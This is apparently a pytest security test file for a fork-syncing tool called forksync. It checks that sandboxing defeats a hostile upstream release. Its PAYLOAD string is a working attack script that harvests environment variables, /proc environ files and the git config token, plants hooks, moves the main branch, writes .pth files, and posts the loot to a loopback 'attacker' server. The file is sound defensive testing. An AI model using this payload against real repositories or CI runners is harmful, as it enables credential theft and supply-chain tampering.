"""A hostile upstream release: its tests (run as the fork's check) try every attack seen in the
wild. Each must fail: secrets read from forksync's environment or the checkout's git config,
hooks planted for forksync's own later git calls, `refs/heads/main` moved, code written where
forksync or the interpreter would load it. What the attack finds is sent to a loopback "attacker"."""

from __future__ import annotations

import base64
import json
import os
import site
import subprocess
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest

import forksync
from tests.gitutil import git

CANARIES = {
    "GITHUB_TOKEN": "ghp_" + "HostileCanaryToken0123456789",
    "ANTHROPIC_API_KEY": "sk-ant-" + "hostile-canary-0123456789",
    "SLACK_WEBHOOK_URL": "https://hooks.slack.com/services/T000/B000/hostilecanary0123",
}
CHECKOUT_TOKEN = "ghs_" + "CheckoutCanary0123456789abcdef"
PROBES = [Path(forksync.__file__).parent / "zz_hostile_probe.py"] + [
    Path(p) / "zz_hostile_probe.pth" for p in site.getsitepackages()
]

PAYLOAD = """
import glob, json, os, subprocess, urllib.request
found = {{"env": dict(os.environ)}}
for p in glob.glob("/proc/[0-9]*/environ"):
    try:
        found[p] = open(p, "rb").read().decode("latin-1")
    except OSError:
        pass
common = subprocess.run(["git", "rev-parse", "--path-format=absolute", "--git-common-dir"],
                        capture_output=True, text=True).stdout.strip()
for cand in [os.path.join(common, "config"), "../../../config", "../../config"]:
    try:
        found["config:" + cand] = open(cand).read()
    except OSError:
        pass
found["moved"] = subprocess.run(["git", "update-ref", "refs/heads/main", "HEAD"], capture_output=True).returncode == 0
found["planted"] = []
for hook in ("pre-push", "reference-transaction", "post-checkout", "post-commit"):
    try:
        path = os.path.join(common, "hooks", hook)
        with open(path, "w") as fh:
            fh.write("#!/bin/sh\\necho ran >> {marks}/hook-" + hook + "\\n")
        os.chmod(path, 0o755)
        found["planted"].append(hook)
    except OSError:
        pass
found["wrote"] = []
for target in {probes!r} if {write_code} else []:
    try:
        with open(target, "a") as fh:
            fh.write("# hostile\\n")
        found["wrote"].append(target)
    except OSError:
        pass
req = urllib.request.Request({url!r}, data=json.dumps(found).encode(), method="POST")
urllib.request.urlopen(req, timeout=5).read()
"""


class Attacker:
    """A loopback HTTP server that records what the hostile code sends it."""

    def __init__(self) -> None:
        received: list[bytes] = []

        class Handler(BaseHTTPRequestHandler):
            def do_POST(self) -> None:
                received.append(self.rfile.read(int(self.headers.get("content-length", "0"))))
                self.send_response(200)
                self.end_headers()

            def log_message(self, *args: object) -> None:
                pass

        self.received = received
        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        threading.Thread(target=self.server.serve_forever, daemon=True).start()
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}/loot"

    def loot(self) -> list[dict[str, object]]:
        return [json.loads(body) for body in self.received]


@pytest.fixture
def attacker() -> Iterator[Attacker]:
    server = Attacker()
    try:
        yield server
    finally:
        server.server.shutdown()


@pytest.fixture
def probes_removed() -> Iterator[None]:
    yield
    for path in PROBES:  # if an attack got through, leave no trace in the installation
        path.unlink(missing_ok=True)


def hostile_setup(
    demo: tuple[Path, Path, Path], tmp_path: Path, url: str, security: str, *, write_code: bool
) -> Path:
    """Upstream releases v1.3.0 with a hostile test module; the fork's config gets ``security``."""
    upstream, _, fork = demo
    marks = tmp_path / "marks"
    marks.mkdir()
    code = PAYLOAD.format(marks=marks, probes=[str(p) for p in PROBES], write_code=write_code, url=url)
    (upstream / "tests" / "test_zz_hostile.py").write_text(code)
    git(upstream, "add", "-A")
    git(upstream, "commit", "-qm", "Release 1.3.0")
    git(upstream, "tag", "v1.3.0")
    with (fork / ".forksync.toml").open("a") as fh:
        fh.write(f"[security]\n{security}\n")
    git(fork, "commit", "-qam", "security settings")
    header = "AUTHORIZATION: basic " + base64.b64encode(f"x-access-token:{CHECKOUT_TOKEN}".encode()).decode()
    git(fork, "config", "http.https://github.com/.extraheader", header)  # as actions/checkout leaves it
    return marks


def sync(forksync_bin: str, fork: Path, env: dict[str, str]) -> tuple[subprocess.CompletedProcess[str], dict]:  # type: ignore[type-arg]
    done = subprocess.run(
        [forksync_bin, "sync", "--repo", str(fork), "--json"],
        capture_output=True,
        text=True,
        env={**os.environ, **env},
        timeout=180,
        check=False,
    )
    return done, json.loads(done.stdout) if done.stdout.strip() else {}


def test_sandboxed_hostile_release_gets_nothing(
    demo: tuple[Path, Path, Path], tmp_path: Path, forksync_bin: str, attacker: Attacker, probes_removed: None
) -> None:
    _, remote, fork = demo
    marks = hostile_setup(demo, tmp_path, attacker.url, 'sandbox = "require"', write_code=True)
    main_before = git(fork, "rev-parse", "main")
    done, report = sync(forksync_bin, fork, CANARIES)
    assert report.get("exit_code") == 0, (done.stderr, report.get("error"))
    loot = attacker.loot()
    assert loot, "the hostile code did not run"  # the attack ran, and found nothing
    text = json.dumps(loot)
    for secret in [
        *CANARIES.values(),
        CHECKOUT_TOKEN,
        base64.b64encode(f"x-access-token:{CHECKOUT_TOKEN}".encode()).decode(),
    ]:
        assert secret not in text
    assert "extraheader" not in text
    for found in loot:
        assert found["planted"] == [] and found["moved"] is False and found["wrote"] == []
        assert len([k for k in found if str(k).startswith("/proc/")]) <= 6  # only the sandbox's own processes
    assert not any(p.exists() for p in PROBES)
    assert list(marks.iterdir()) == []  # no hook ever ran
    assert git(fork, "rev-parse", "main") == main_before
    assert git(remote, "rev-parse", "refs/heads/upstream-sync/v1.3.0") == report["merge_commit"]
    assert not report["worktree"].startswith(str(fork))  # the worktree is outside the git directory


def test_unsandboxed_tampering_fails_the_run_before_anything_is_pushed(
    demo: tuple[Path, Path, Path], tmp_path: Path, forksync_bin: str, attacker: Attacker
) -> None:
    """Opted out of the sandbox (no secret in reach): the attack plants hooks and moves main;
    forksync's own git calls never run the hooks, and the run fails before pushing."""
    _, remote, fork = demo
    git(fork, "config", "--unset", "http.https://github.com/.extraheader", check=False)
    marks = hostile_setup(demo, tmp_path, attacker.url, 'sandbox = "off"', write_code=False)
    git(fork, "config", "--unset", "http.https://github.com/.extraheader")
    main_before = git(fork, "rev-parse", "main")
    done, report = sync(forksync_bin, fork, {"FORKSYNC_ALLOW_UNSANDBOXED": "1"})
    loot = attacker.loot()
    assert loot and loot[0]["moved"] is True and "pre-push" in loot[0]["planted"]  # the attack got through
    assert done.returncode == 4, done.stderr
    assert report["status"] == "failed"
    message = report["error"]["message"]
    assert "refs/heads/main moved to" in message and "git:hooks/pre-push changed" in message
    assert "nothing was pushed" in message
    assert git(remote, "branch", "--list", "upstream-sync/*") == ""
    assert list(marks.iterdir()) == []  # planted hooks never ran in forksync's git calls
    git(fork, "update-ref", "refs/heads/main", main_before)


def test_secrets_in_reach_without_a_sandbox_is_refused(
    demo: tuple[Path, Path, Path], tmp_path: Path, forksync_bin: str, attacker: Attacker
) -> None:
    _, remote, fork = demo
    hostile_setup(demo, tmp_path, attacker.url, 'sandbox = "off"', write_code=False)
    done, report = sync(forksync_bin, fork, CANARIES)
    assert done.returncode == 3
    assert report["error"]["kind"] == "sandbox"
    message = report["error"]["message"]
    assert message.startswith(
        "refusing to run repository code without a sandbox while secrets are in reach ("
    )
    for name in [*CANARIES, "git config http.https://github.com/.extraheader"]:
        assert name in message
    assert attacker.loot() == []  # the hostile code never ran
    assert [s["name"] for s in report["stages"]] == []  # refused before any work
    assert git(remote, "branch", "--list", "upstream-sync/*") == ""
    assert git(fork, "branch", "--list", "upstream-sync/*") == ""


def test_sandbox_required_but_unavailable_is_one_clear_error(
    demo: tuple[Path, Path, Path], tmp_path: Path, forksync_bin: str, attacker: Attacker
) -> None:
    _, _, fork = demo
    hostile_setup(demo, tmp_path, attacker.url, 'sandbox = "require"', write_code=False)
    done, report = sync(forksync_bin, fork, {"FORKSYNC_BWRAP": "none"})
    assert done.returncode == 3
    assert report["error"]["message"].startswith(
        '[security] sandbox = "require" but bubblewrap (bwrap) cannot run here'
    )
    assert attacker.loot() == []
